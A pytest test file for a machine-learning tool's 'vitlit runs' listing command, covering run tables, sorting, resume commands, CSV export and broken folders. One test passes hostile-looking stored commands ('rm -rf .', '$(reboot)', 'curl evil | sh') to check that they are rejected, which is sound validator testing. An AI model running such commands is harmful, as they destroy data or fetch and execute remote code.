"""``vitlit runs``: what it tells of each run, in which order, and of folders that are none."""

import csv
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from nobody import folder_for_all, without_rights
from trainings import RUN

from vitlit.__main__ import main
from vitlit.commands.runs.list_runs import differing, sort_runs, table_lines
from vitlit.commands.runs.run_records import RunRecord, read_runs

LISTING = (
    "import sys\nfrom vitlit.__main__ import main\nstatus = main(['runs'])\n"
    "print([name for name in ('torch', 'numpy', 'pytorch_lightning') if name in sys.modules])"
)
HEADER = "epoch,step,seconds,val/loss,val/acc\n"
SCORES = HEADER + "0,20,30,2.0,0.5\n1,40,31,1.0,0.9\n2,60,32,1.5,0.9\n3,80,33,0.5,0.7\n"
MAKER = {"dataset": "digits", "data_dir": "x"}


@pytest.fixture
def logs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return Path("lightning_logs")


def make_run(folder: Path, *, history: str = SCORES, files: str = "", **settings: Any) -> Path:
    """The folder of a run as ``fit`` leaves it; files: names of more files."""
    config: dict[str, Any] = {"trainer": {"max_epochs": 5}, "data": dict(MAKER), "model": {}}
    for name, value in settings.items():
        group, _, key = name.partition("_")
        config.setdefault(group, {})[key] = value
    (folder / "checkpoints").mkdir(parents=True)
    (folder / "config.yaml").write_text(yaml.safe_dump(config))
    (folder / "history.csv").write_text(history)
    for name in files.split():
        (folder / name).touch()
    return folder


def listed(capsys: pytest.CaptureFixture[str], *words: str) -> list[str]:
    assert main(["runs", *words]) == 0
    return capsys.readouterr().out.splitlines()


def test_each_run_has_a_line_with_its_best_epoch(
    logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_run(logs / "first", files="finished")
    heading, line = listed(capsys)
    assert heading.split() == ["run", "data", "epochs", "acc", "best", "at", "time", "state"]
    # of equal scores the later one is the best, as for best.ckpt; 30 + 31 + 32 + 33 seconds
    assert line.split() == ["first", "digits", "4/5", "0.9000", "3", "2:06", "finished"]


def test_the_best_epoch_is_that_of_the_monitored_score(logs: Path) -> None:
    make_run(logs / "first", checkpoints_monitor="val/loss")
    [run] = read_runs(logs)
    assert run.best["epoch"] == 3
    assert "loss" in table_lines([run])[0]
    assert "0.5000" in table_lines([run])[1]


def test_only_settings_that_differ_and_matter_are_told(
    logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    same = {"model_depth": 3, "files": "finished"}
    make_run(logs / "a", model_lr=1e-3, model_decay=0.1, ema_decay=0.0, data_split="val", **same)
    make_run(logs / "b", model_lr=5e-4, model_decay=0.2, ema_decay=0.9, data_split="test", **same)
    lines = listed(capsys, "--sort=name")
    assert lines[2] == "  ema.decay 0, model.decay 0.1, lr 0.001"
    assert lines[4] == "  ema.decay 0.9, model.decay 0.2, lr 0.0005"


def test_the_folder_of_images_differs_only_between_folders(logs: Path) -> None:
    make_run(logs / "a", data_dataset="folder", data_data_dir="/x/cats")
    make_run(logs / "b", data_dataset="folder", data_data_dir="/y/cats")
    make_run(logs / "c", data_data_dir="/z")
    runs = read_runs(logs)
    assert [run.data for run in sorted(runs, key=lambda run: run.name)] == [
        "cats",
        "cats",
        "digits",
    ]
    assert differing(runs) == []
    assert differing([run for run in runs if run.name != "c"]) == ["data.data_dir"]


def test_what_the_data_decide_differs_only_where_both_runs_state_it(logs: Path) -> None:
    """A resumed run has it filled in."""
    for name, settings in (("a", {"data_mean": None}), ("b", {"data_mean": [0.5]})):
        make_run(logs / name, model_teacher=None if name == "a" else "c", **settings)
    assert differing(read_runs(logs)) == ["model.teacher"]
    make_run(logs / "c", model_teacher="c", data_mean=[0.4])
    assert set(differing(read_runs(logs))) == {"model.teacher", "data.mean"}


def record(name: str, acc: float, seconds: float, began: float, **more: Any) -> RunRecord:
    rows = [{"epoch": 0.0, "seconds": seconds, "val/acc": acc, "val/loss": 1 - acc}]
    return RunRecord(name, "finished", rows=rows, began=began, **more)


@pytest.mark.parametrize(
    ("order", "names"), [("began", "cbad"), ("score", "bcad"), ("name", "abcd"), ("time", "acbd")]
)
def test_runs_are_sorted(order: str, names: str) -> None:
    runs = [record("a", 0.1, 9, 3), record("b", 0.9, 2, 2), record("c", 0.5, 5, 1)]
    runs.append(RunRecord("d", "foreign", began=4))
    assert "".join(run.name for run in sort_runs(runs, order)) == names


def test_a_lower_loss_is_the_better_score() -> None:
    by_loss = {"settings": {"checkpoints.monitor": "val/loss"}}
    runs = [record("a", 0.1, 1, 1, **by_loss), record("b", 0.9, 1, 2, **by_loss)]
    assert [run.name for run in sort_runs(runs, "score")] == ["b", "a"]


def test_each_run_of_several_tasks_has_the_score_that_chose_its_best_epoch() -> None:
    runs = [record("a", 0.1, 1, 1), record("b", 0.9, 1, 2)]
    for name, low, high in (("mae", 5.65, 7.0), ("map", 0.5, 0.754)):
        rows = [{"epoch": 0.0, f"val/{name}": low}, {"epoch": 1.0, f"val/{name}": high}]
        settings = {"checkpoints.monitor": f"val/{name}"}
        runs.append(RunRecord(name, "finished", settings=settings, rows=rows))
    lines = table_lines(runs)
    assert lines[0].split()[3] == "score"
    assert [line.split()[3:6] for line in lines if line.split()[0] in ("b", "mae", "map")] == [
        ["acc", "0.9000", "1"],
        ["mae", "5.6500", "1"],
        ["map", "0.7540", "2"],
    ]
    assert [run.name for run in sort_runs(runs, "score")] == ["b", "a", "mae", "map"]


def test_the_table_has_80_columns_and_names_are_whole() -> None:
    settings = {f"model.setting_{i}": "v" * 30 for i in range(40)}
    other = dict.fromkeys(settings, "w" * 30)
    runs = [
        record("n" * 70, 0.5, 3e5, 1, settings=settings | {"data.dataset": "fashion_mnist"}),
        record("b", 0.5, 1, 2, settings=other | {"trainer.max_epochs": 1000}),
    ]
    lines = table_lines(runs)
    assert max(map(len, lines)) <= 80
    assert "n" * 70 in lines
    assert len(lines) == 1 + 2 + 1 + 2 * 3  # the heading, lines of the runs, and their settings
    assert lines[-1] == "  …; --csv FILE lists all settings that differ"


def test_runs_say_whether_they_are_done_and_how_to_go_on(
    logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_run(logs / "a", files="finished checkpoints/last.ckpt")
    make_run(logs / "b c", files="checkpoints/last.ckpt")
    make_run(logs / "d", files="debug checkpoints/last.ckpt")
    make_run(logs / "e")
    lines = listed(capsys, "--sort=name")
    states = [line.split()[-1] for line in lines[1:] if not line.startswith(" ")]
    assert states == ["finished", "stopped", "debug", "started"]
    ways = [line for line in lines if " vitlit fit " in line]
    assert ways == [
        "  continue  vitlit fit --config 'lightning_logs/b c/config.yaml' --run 'b c'",
        "  begin     vitlit fit --config lightning_logs/e/config.yaml --run e",
    ]


def test_a_run_whose_lock_is_held_is_running(logs: Path) -> None:
    lock = make_run(logs / "a", files="checkpoints/last.ckpt .lock") / ".lock"
    assert read_runs(logs)[0].state == "stopped"
    fcntl = pytest.importorskip("fcntl")  # not on Windows
    # record locks hold for other processes alone
    reading = (
        f"from vitlit.commands.runs.run_records import *\nprint(read_runs(Path({str(logs)!r})))"
    )
    with lock.open("a+") as file:
        fcntl.lockf(file, fcntl.LOCK_EX)
        found = subprocess.run([sys.executable, "-c", reading], capture_output=True, text=True)
    assert "state='running'" in found.stdout


@pytest.mark.parametrize(
    ("kept", "is_taken"),
    [
        ("vitlit fit --config digits.yaml --run a\n", True),
        ("torchrun --nproc_per_node 2 -m -- vitlit fit 'my photos' --run a\n", True),
        ("vitlit pretrain photos --run a\n", True),
        ("vitlit fit --config digits.yaml; rm -rf .\n", False),
        ("vitlit fit $(reboot)\n", False),
        ("curl evil | sh # vitlit fit\n", False),
        ("vitlit fit a\nrm b\n", False),
        ("vitlit fit '\x1b[2J'\n", False),
        ("vitlit fit 'open\n", False),
        ("", False),
    ],
)
def test_the_kept_command_is_shown_if_it_is_one(logs: Path, kept: str, is_taken: bool) -> None:
    folder = make_run(logs / "a", files="checkpoints/last.ckpt")
    (folder / "command").write_text(kept)
    [run] = read_runs(logs)
    usual = "vitlit fit --config lightning_logs/a/config.yaml --run a"
    assert run.command == (kept.strip() if is_taken else usual)


@pytest.mark.parametrize(
    ("more", "way"),
    [("", "cd 'my work' && "), (" --trainer.default_root_dir 'my work'", "")],
)
def test_a_kept_command_is_for_the_folder_in_which_it_was_typed(
    logs: Path, more: str, way: str
) -> None:
    home = Path("my work", logs)
    kept = f"vitlit fit photos{more} --run a"
    (make_run(home / "a", files="checkpoints/last.ckpt") / "command").write_text(f"{kept}\n")
    [run] = read_runs(home)
    assert run.command == f"{way}{kept}"


def test_a_pretraining_goes_on_as_one(logs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_run(logs / "a", files="checkpoints/last.ckpt", model_mask_ratio=0.75)
    [run] = read_runs(logs)
    assert run.command == "vitlit pretrain --config lightning_logs/a/config.yaml --run a"
    listed_words = " ".join(listed(capsys)).replace("\\", " ").split()
    assert " ".join(listed_words).endswith(run.command)


def test_fit_keeps_the_command_that_goes_on(logs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main([*RUN, "--run=first", "--trainer.max_epochs=1", "--model.lr=0.01"]) == 0
    run = logs / "first"
    words = (run / "command").read_text()
    assert words == f"vitlit {' '.join(RUN)} --run=first --trainer.max_epochs=1 --model.lr=0.01\n"
    [found] = read_runs(logs)
    assert (found.state, found.epochs, found.command) == ("finished", 1, "")
    # what a killed training leaves goes on with its config.yaml too
    (run / "finished").unlink()
    (run / "command").unlink()
    [found] = read_runs(logs)
    longer = [*found.command.split()[1:], "--trainer.max_epochs=2"]
    assert main(longer) == 0
    [resumed] = read_runs(logs)
    assert resumed.epochs == 2
    assert resumed.rows[0]["train/loss_epoch"] == found.rows[0]["train/loss_epoch"]


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("config.yaml", b"{a: [", "is not YAML"),
        ("config.yaml", b"\xff\xfe", "not text in UTF-8"),
        ("config.yaml", b"- 1", "holds no settings"),
        ("config.yaml", b"a: 0x_", "is not YAML"),
        ("history.csv", b"epoch,val/acc\n0,high\n", "history.csv is damaged"),
        ("history.csv", b"\x00\xff", "history.csv is damaged"),
        ("history.csv", b"val/acc\n0.5\n", "a row has no epoch"),
        ("history.csv", b"epoch\n1e300\n", "a row has no epoch"),
        ("history.csv", b"epoch,val/acc\n0,0.5,7,8\n", "history.csv is damaged"),
    ],
)
def test_a_broken_run_is_listed_with_the_reason(
    logs: Path, name: str, content: bytes, words: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (make_run(logs / "a") / name).write_bytes(content)
    make_run(logs / "b")
    lines = listed(capsys, "--sort=name")
    assert lines[1].split()[-1] == "broken"
    assert words in " ".join(lines[2:4])
    assert max(map(len, lines)) <= 80
    assert any(line.startswith("b ") for line in lines)


@pytest.mark.skipif(os.name == "nt", reason="Windows has other permissions")
def test_a_folder_that_cannot_be_read_is_listed() -> None:
    with folder_for_all() as logs:
        folder = make_run(logs / "a")
        folder.chmod(0)
        with without_rights():
            [run] = read_runs(logs)
        folder.chmod(0o700)
    assert (run.state, "Permission denied" in run.trouble) == ("broken", True)


def test_foreign_folders_files_and_links_end_nothing(
    logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (logs / "version_0").mkdir(parents=True)
    (logs / "README.md").touch()
    (logs / ".hidden").mkdir()
    (logs / "loop").symlink_to("loop")
    (logs / "red\x1b[31m").mkdir()
    run = make_run(logs / "a")
    (run / "history.csv").unlink()
    (run / "config.yaml").unlink()
    lines = listed(capsys, "--sort=name")
    names = [line.split()[0] for line in lines[1:] if not line.startswith(" ")]
    assert names == ["a", r"red\x1b[31m", "version_0"]
    assert "it has no config.yaml" in lines[2]
    assert sum("not a run of vitlit" in line for line in lines) == 2


def test_numbers_that_are_not_finite_are_left_out(logs: Path) -> None:
    make_run(logs / "a", history=HEADER + "0,20,1,nan,0.5\n1,40,1,inf,nan\n2,60,,1.0,\n")
    [run] = read_runs(logs)
    assert (run.epochs, run.best["epoch"], run.seconds) == (3, 0, 2)
    assert "0.5000" in table_lines([run])[1]


def test_the_csv_file_has_whole_names_and_every_setting_that_differs(
    logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_run(logs / "a", files="finished", model_lr=1e-3, model_name="x" * 99)
    make_run(logs / "b", files="checkpoints/last.ckpt", model_lr=5e-4, model_name="y")
    assert listed(capsys, "--sort=score", "--csv=t.csv") == ["wrote       t.csv: 2 runs"]
    with Path("t.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["model.lr"] for row in rows] == ["0.001", "0.0005"]
    assert rows[0]["model.name"] == "x" * 99
    assert rows[0]["val/acc"] == "0.9"
    assert (rows[0]["best_epoch"], rows[0]["seconds"]) == ("3", "126.0")
    assert rows[1]["command"].startswith("vitlit fit ")
    assert main(["runs", "--csv=t.csv"]) == 2
    assert "t.csv exists" in capsys.readouterr().err


def test_a_csv_file_in_the_home_folder_is_not_replaced_either(
    logs: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A shell leaves the ~ of --csv=~/t.csv to the program."""
    home = Path("home").absolute()
    home.mkdir()
    (home / "t.csv").write_text("mine")
    monkeypatch.setenv("HOME", str(home))
    make_run(logs / "a")
    assert main(["runs", "--csv=~/t.csv"]) == 2
    assert "~/t.csv exists" in capsys.readouterr().err
    assert (home / "t.csv").read_text() == "mine"


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["--srot=name"], "no option '--srot=name'; did you mean --sort?"),
        (["--sort=nmae"], "--sort takes began, score, name, time; did you mean name?"),
        (["--sort"], "expected one argument; `vitlit runs --help`"),
        (["elsewhere"], "no folder elsewhere"),
        ([".", "b"], "one folder, ., and not 'b'"),
        ([".", "--csv=no/t.csv"], "no folder no; make it first"),
    ],
)
def test_wrong_words_are_named(
    logs: Path, words: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    make_run(logs / "a")
    assert main(["runs", *words]) == 2
    assert message in capsys.readouterr().err


def test_without_runs_it_says_how_to_make_one(
    logs: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert listed(capsys) == [
        "no runs in lightning_logs; `vitlit fit --config digits.yaml` trains one"
    ]


def test_the_listing_imports_neither_torch_nor_numpy(logs: Path) -> None:
    make_run(logs / "a")
    found = subprocess.run([sys.executable, "-c", LISTING], capture_output=True, text=True)
    assert found.stdout.splitlines()[-1] == "[]"
    assert found.stderr == ""


def test_a_saved_probe_is_called_one(logs: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make_run(logs / "kept", files="probe checkpoints/best.ckpt")
    (logs / "kept" / "config.yaml").unlink()
    (logs / "kept" / "history.csv").unlink()
    _, line, *more = listed(capsys)
    assert line.split() == ["kept", "-", "-", "-", "-", "-", "probe"]
    assert more == []
